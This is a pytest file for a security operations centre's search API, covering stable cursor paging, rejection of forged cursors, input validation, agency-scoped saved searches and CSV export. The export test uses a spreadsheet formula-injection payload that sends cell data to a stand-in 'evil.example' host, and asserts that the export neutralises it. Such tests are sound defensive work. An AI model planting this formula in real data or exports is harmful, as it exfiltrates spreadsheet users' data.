"""Paging stays stable while events arrive; cursors cannot be forged; bad input is a 4xx with the reason;
exports are bounded and neutralised; saved searches stay with their owner and agency."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import timedelta
from typing import Any

from fastapi.testclient import TestClient

from soc.runtime import Runtime
from tests.hunt.conftest import NOW, bearer, index, web

WINDOW = {"from": (NOW - timedelta(hours=2)).isoformat(), "to": (NOW + timedelta(minutes=1)).isoformat()}


def post(api: TestClient, token: str, body: dict[str, Any], path: str = "/api/v1/search") -> Any:
    return api.post(path, headers=bearer(token), json=body)


def test_pages_are_stable_while_events_arrive(rt: Runtime, api: TestClient, tokens: dict[str, str]) -> None:
    index(rt, [web(f"10.0.0.{i}", f"/p{i}", ago=i) for i in range(1, 8)])
    body = {"query": "url.path:/p*", **WINDOW, "size": 3}
    first = post(api, tokens["analyst_a"], body).json()
    assert first["total"] == 7 and first["next"]
    seen = [i["_id"] for i in first["items"]]
    # new events arrive, some sorting before the page boundary: the pages already begun do not move
    index(rt, [web(f"10.0.1.{i}", f"/p-new{i}", ago=0.5 + i) for i in range(5)])
    cursor = first["next"]
    while cursor:
        page = post(api, tokens["analyst_a"], body | {"cursor": cursor}).json()
        assert page["total"] == 7
        seen += [i["_id"] for i in page["items"]]
        cursor = page["next"]
    assert len(seen) == len(set(seen)) == 7
    assert post(api, tokens["analyst_a"], body).json()["total"] == 12  # a new search sees them


def test_cursors_cannot_be_forged_or_reused(rt: Runtime, api: TestClient, tokens: dict[str, str]) -> None:
    index(rt, [web(f"10.0.0.{i}", f"/p{i}", ago=i) for i in range(1, 5)])
    body = {"query": "", **WINDOW, "size": 2}
    cursor = post(api, tokens["analyst_a"], body).json()["next"]
    raw = base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4))
    data = json.loads(raw[16:])
    data["a"] = [0, "x", 0]
    forged = base64.urlsafe_b64encode(raw[:16] + json.dumps(data).encode()).decode().rstrip("=")
    for bad in (forged, "not-a-cursor", cursor[:-4] + "AAAA", "A" * 3000):
        r = post(api, tokens["analyst_a"], body | {"cursor": bad})
        assert r.status_code == 422 and "cursor" in r.json()["detail"], r.text
    other = post(api, tokens["analyst_a"], body | {"query": "p1x", "cursor": cursor})
    assert other.status_code == 422 and "another search" in other.json()["detail"]
    stolen = post(api, tokens["analyst_a2"], body | {"cursor": cursor})  # same agency, another user
    assert stolen.status_code == 422
    assert post(api, tokens["analyst_a"], body | {"cursor": cursor}).status_code == 200


def test_bad_input_is_a_4xx_with_the_reason(api: TestClient, tokens: dict[str, str]) -> None:
    t = tokens["analyst_a"]
    r = post(api, t, {"query": "source.ip:10.0.0.0/8 AND nope.field:1", **WINDOW})
    assert r.status_code == 400
    assert r.json()["position"] == 25 and "unknown field 'nope.field'" in r.json()["reason"]
    assert post(api, t, {"query": "/ad.*min/"}).json()["position"] == 0
    assert "start with a wildcard" in post(api, t, {"query": "user.name:*dmin"}).json()["reason"]
    reversed_window = post(api, t, {"query": "", "from": WINDOW["to"], "to": WINDOW["from"]})
    assert reversed_window.status_code == 422 and "'from' must be before 'to'" in reversed_window.text
    assert post(api, t, {"query": "", "size": 501}).status_code == 422
    assert post(api, t, {"query": "", "facets": ["message"]}).status_code == 422
    assert post(api, t, {"query": "", "facets": ["no.such"]}).status_code == 422
    assert post(api, t, {"query": "", "sort": "message"}).status_code == 422
    assert post(api, t, {"query": "", "agency": "Not An Agency"}).status_code == 422
    assert post(api, t, {"query": "", "bogus": 1}).status_code == 422
    big = post(api, t, {"query": "", "limit": 10_001}, "/api/v1/search/export?format=csv")
    assert big.status_code == 422
    assert post(api, t, {"query": ""}, "/api/v1/search/export?format=xlsx").status_code == 422
    assert post(api, t, {"query": "a"}, "/api/v1/search/export").status_code == 400


def test_export_is_neutralised_and_bounded(rt: Runtime, api: TestClient, tokens: dict[str, str]) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    index(rt, [web("10.0.0.1", "/a", user=evil, ago=1), web("10.0.0.2", "/b", user="+1-2", ago=2),
               web("10.0.0.3", '/c"\n,x', user="@SUM(A1)", ago=3), web("10.0.0.4", "/d", ago=4, agency="agency-b")])
    r = post(api, tokens["analyst_a"], {"query": "", **WINDOW}, "/api/v1/search/export?format=csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["x-result-rows"] == "3"
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["user.name"] for row in rows] == ["'" + evil, "'+1-2", "'@SUM(A1)"]
    assert rows[2]["url.original"] == '/c"\n,x'  # quoted by the CSV writer, one cell
    assert all(row["organization.id"] == "agency-a" for row in rows)
    limited = post(api, tokens["admin"], {"query": "", **WINDOW, "limit": 2, "fields": ["source.ip", "user.name"]},
                   "/api/v1/search/export?format=ndjson")
    lines = limited.content.decode().splitlines()
    assert len(lines) == 2 and limited.headers["content-type"] == "application/x-ndjson"
    assert json.loads(lines[0]) == {"_id": json.loads(lines[0])["_id"], "source.ip": "10.0.0.1", "user.name": evil}


def test_saved_searches_belong_to_owner_and_agency(api: TestClient, tokens: dict[str, str]) -> None:
    made = post(api, tokens["analyst_a"], {"name": "mine", "query": "user.name:root"}, "/api/v1/search/saved")
    assert made.status_code == 201 and made.json()["agency"] == "agency-a"
    shared = post(api, tokens["analyst_a"], {"name": "team", "query": "url.path:*admin*", "shared": True},
                  "/api/v1/search/saved").json()
    assert post(api, tokens["analyst_a"], {"name": "x", "query": "nope:1"}, "/api/v1/search/saved").status_code == 400
    assert post(api, tokens["analyst_a"], {"name": "x", "agency": "agency-b"},
                "/api/v1/search/saved").status_code == 422

    def names(token: str) -> list[str]:
        r = api.get("/api/v1/search/saved", headers=bearer(token))
        assert r.status_code == 200
        return [s["name"] for s in r.json()]

    assert names(tokens["analyst_a"]) == ["mine", "team"]
    assert names(tokens["analyst_a2"]) == ["team"]
    assert names(tokens["analyst_b"]) == []
    mine = made.json()["id"]
    assert api.get(f"/api/v1/search/saved/{mine}", headers=bearer(tokens["analyst_a2"])).status_code == 404
    assert api.get(f"/api/v1/search/saved/{shared['id']}", headers=bearer(tokens["analyst_b"])).status_code == 404
    assert api.delete(f"/api/v1/search/saved/{shared['id']}", headers=bearer(tokens["analyst_a2"])).status_code == 403
    assert api.delete(f"/api/v1/search/saved/{shared['id']}", headers=bearer(tokens["analyst_a"])).status_code == 204
    assert names(tokens["analyst_a2"]) == []
